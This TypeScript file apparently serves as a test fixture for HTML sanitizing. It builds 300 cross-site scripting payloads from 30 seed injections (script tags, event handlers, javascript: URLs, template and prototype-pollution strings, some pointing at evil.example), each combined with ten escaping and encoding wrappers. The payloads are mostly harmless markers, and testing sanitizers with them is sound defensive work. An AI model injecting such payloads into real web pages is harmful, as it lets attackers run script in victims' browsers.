/** What each payload does where it runs: it leaves a mark on the window, or asks. */
const RUN = 'window.hostileRan=1';

const SEEDS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<iframe srcdoc="<script>parent.hostileRan=1</script>"></iframe>`,
  `<iframe src="javascript:parent.hostileRan=1"></iframe>`,
  `<a href="javascript:${RUN}" autofocus>x</a>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<object data="data:text/html,<script>alert(1)</script>"></object>`,
  `<embed src="javascript:alert(1)">`,
  `<form action="javascript:${RUN}"><button autofocus>x</button></form>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<template><script>${RUN}</script></template>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `javascript:${RUN}`,
  `data:text/html,<script>alert(1)</script>`,
  `alert(1)`,
  `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${RUN}>"}}`,
  `__proto__[innerHTML]=<img src=x onerror=${RUN}>`,
  `$t(x) {{x, number}} <0>${RUN}</0>`,
  `<x onclick=${RUN} style=position:fixed;inset:0>x</x>`,
];

const DRESSES: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `"'>${text}`,
  (text) => `</textarea></title></style>${text}`,
  (text) => `-->]]>${text}<!--`,
  (text) => `X ${text.toUpperCase()}`.replaceAll('WINDOW.HOSTILERAN', 'window.hostileRan'),
  (text) => `＜b＞${text.replaceAll('<', '＜').replaceAll('>', '＞')}`,
  (text) => `%3Cb%3E${encodeURIComponent(text)}`,
  (text) => `&lt;b&gt;${text.replaceAll('<', '&lt;').replaceAll('>', '&gt;')}`,
  (text) => `\u202e${text}\u2066\u200b`,
  (text) => `\u0000${text.replace(/<(\w)/g, '<\u0000$1')}`,
];

/** Thirty ways to run a script from text, each in ten dresses. */
export const hostilePayloads: readonly string[] = SEEDS.flatMap((seed) => DRESSES.map((dress) => dress(seed)));
